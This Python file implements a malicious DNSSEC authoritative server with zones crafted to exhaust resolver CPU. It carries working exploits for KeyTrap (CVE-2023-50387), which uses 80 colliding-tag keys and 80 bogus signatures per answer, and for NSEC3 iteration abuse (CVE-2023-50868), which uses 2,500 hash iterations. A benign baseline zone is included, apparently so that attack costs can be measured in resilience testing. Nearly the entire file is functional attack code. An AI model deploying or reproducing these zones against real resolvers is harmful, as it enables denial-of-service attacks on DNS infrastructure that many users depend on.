#!/usr/bin/env python3
"""A malicious authority for hostile.sh: signed zones whose answers are as dear to validate as their
format allows. Prints their DS records and a line `ready`, then answers on UDP and TCP.

    hostile.py ADDRESS PORT

    keytrap.        80 keys of one key tag, and 80 wrong signatures for each name (CVE-2023-50387)
    nsec3.          NXDOMAIN by NSEC3 records of 2,500 iterations, for names of 110 labels
                    (CVE-2023-50868)
    nsec3-50.       the same with 50 iterations, the most that resolvers still compute
    plain.          NXDOMAIN by one NSEC record: what a query costs that is not hostile
"""
import base64
import os
import socket
import sys
import threading
import time

import dns.dnssec
import dns.flags
import dns.message
import dns.name
import dns.rcode
import dns.rdata
import dns.rdataclass
import dns.rdatatype
import dns.rrset
from cryptography.hazmat.primitives.asymmetric import ec

KEYS = SIGNATURES = 80
ALGORITHM = 14  # ECDSA P-384: the dearest to verify of those that all validators have
# Bits of the Flags field of a DNSKEY record without a meaning: not ZONE, REVOKE, SEP (RFC 4034).
FREE_FLAGS = 0xffff & ~0x0181
PAYLOAD = 1232
IN = dns.rdataclass.IN
T = dns.rdatatype


def colliding_key(tag):
    """A DNSKEY record with this key tag, which is a sum: free flag bits add what lacks."""
    while True:
        key = ec.generate_private_key(ec.SECP384R1()).public_key()
        plain = dns.dnssec.make_dnskey(key, ALGORITHM, flags=256)
        lacking = (tag - dns.dnssec.key_id(plain)) % 0xffff
        if lacking & ~FREE_FLAGS:
            continue
        public = base64.b64encode(plain.key).decode()
        record = dns.rdata.from_text(IN, T.DNSKEY, f"{256 + lacking} 3 {ALGORITHM} {public}")
        if dns.dnssec.key_id(record) == tag:
            return record


class Zone:
    def __init__(self, name):
        self.name = dns.name.from_text(name)
        self.private = ec.generate_private_key(ec.SECP384R1())
        self.key = dns.dnssec.make_dnskey(self.private.public_key(), ALGORITHM, flags=257)
        self.tag = dns.dnssec.key_id(self.key)
        self.keys = [self.key]
        if name == "keytrap.":
            self.keys += [colliding_key(self.tag) for _ in range(KEYS - 1)]
        keys = dns.rrset.from_rdata_list(self.name, 3600, self.keys)
        self.apex = {
            T.DNSKEY: self.signed(keys),
            T.SOA: self.signed(self.text(name, "SOA", f"ns.{name} host.{name} 1 3600 600 86400 60")),
            T.NS: self.signed(self.text(name, "NS", f"ns.{name}")),
        }
        self.denial = self.denial_of(name)

    def text(self, owner, rtype, data):
        return dns.rrset.from_text(owner, 60, "IN", rtype, data)

    def signed(self, rrset):
        now = int(time.time())
        signature = dns.dnssec.sign(rrset, self.private, self.name, self.key,
                                    inception=now - 86400, expiration=now + 20 * 86400)
        return [rrset, dns.rrset.from_rdata(rrset.name, rrset.ttl, signature)]

    def denial_of(self, name):
        """Proofs that are right in form, and deny little: the validator finds out by hashing."""
        if name in ("keytrap.", "plain."):
            return self.signed(self.text(name, "NSEC", f"{name} NS SOA RRSIG NSEC DNSKEY"))
        iterations = 50 if name == "nsec3-50." else 2500
        salt = "ab" * 8
        hashed = dns.dnssec.nsec3_hash(self.name, salt, iterations, "SHA1")
        owners = [hashed.lower(), "0" * 31 + "1", "v" * 31 + "0"]
        sets = []
        for place, owner in enumerate(owners):
            following = sorted(owners)[(sorted(owners).index(owner) + 1) % len(owners)]
            types = "NS SOA RRSIG DNSKEY" if place == 0 else "A RRSIG"
            data = f"1 0 {iterations} {salt} {following} {types}"
            sets += self.signed(self.text(f"{owner}.{name}", "NSEC3", data))
        return sets

    def answer(self, message, name, rtype):
        message.flags |= dns.flags.AA
        if name == self.name and rtype in self.apex:
            message.answer += self.apex[rtype]
        elif name == dns.name.from_text("ns", self.name) and rtype == T.A:
            message.answer += self.signed(self.text(name, "A", ADDRESS))
        elif name in (self.name, dns.name.from_text("ns", self.name)):
            message.authority += self.apex[T.SOA]
        elif self.name == dns.name.from_text("keytrap."):
            message.answer += self.trapped(name)
        else:
            message.set_rcode(dns.rcode.NXDOMAIN)
            message.authority += self.apex[T.SOA] + self.denial

    def trapped(self, name):
        now = int(time.time())
        signatures = dns.rrset.RRset(name, IN, T.RRSIG, T.A)
        for _ in range(SIGNATURES):
            octets = base64.b64encode(os.urandom(96)).decode()
            data = (f"A {ALGORITHM} {len(name) - 1} 60 {now + 86400} {now - 86400} {self.tag} "
                    f"{self.name} {octets}")
            signatures.add(dns.rdata.from_text(IN, T.RRSIG, data), 60)
        return [self.text(name, "A", "192.0.2.1"), signatures]


def respond(zones, wire, is_tcp):
    query = dns.message.from_wire(wire)
    reply = dns.message.make_response(query)
    question = query.question[0]
    name = dns.name.from_text(question.name.to_text().lower())
    zone = next((zone for zone in zones if name.is_subdomain(zone.name)), None)
    if zone is None:
        reply.set_rcode(dns.rcode.REFUSED)
    else:
        zone.answer(reply, name, question.rdtype)
    octets = reply.to_wire(max_size=65535)
    if is_tcp or len(octets) <= PAYLOAD:
        return octets
    short = dns.message.make_response(query)
    short.flags |= dns.flags.TC | dns.flags.AA
    return short.to_wire()


def serve_udp(zones, server):
    while True:
        wire, client = server.recvfrom(65535)
        server.sendto(respond(zones, wire, False), client)


def serve_connection(zones, connection):
    with connection:
        while len(head := connection.recv(2, socket.MSG_WAITALL)) == 2:
            wire = connection.recv(int.from_bytes(head, "big"), socket.MSG_WAITALL)
            octets = respond(zones, wire, True)
            connection.sendall(len(octets).to_bytes(2, "big") + octets)


ADDRESS, PORT = sys.argv[1], int(sys.argv[2])
ZONES = [Zone(name) for name in ("keytrap.", "nsec3.", "nsec3-50.", "plain.")]
for served in ZONES:
    digest = dns.dnssec.make_ds(served.name, served.key, "SHA256")
    print(f"{served.name} 3600 IN NS ns.{served.name}\n"
          f"ns.{served.name} 3600 IN A {ADDRESS}\n"
          f"{served.name} 3600 IN DS {digest}")
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp.bind((ADDRESS, PORT))
threading.Thread(target=serve_udp, args=(ZONES, udp), daemon=True).start()
tcp = socket.create_server((ADDRESS, PORT), backlog=256)
print("ready", flush=True)
while True:
    threading.Thread(target=serve_connection, args=(ZONES, tcp.accept()[0]), daemon=True).start()
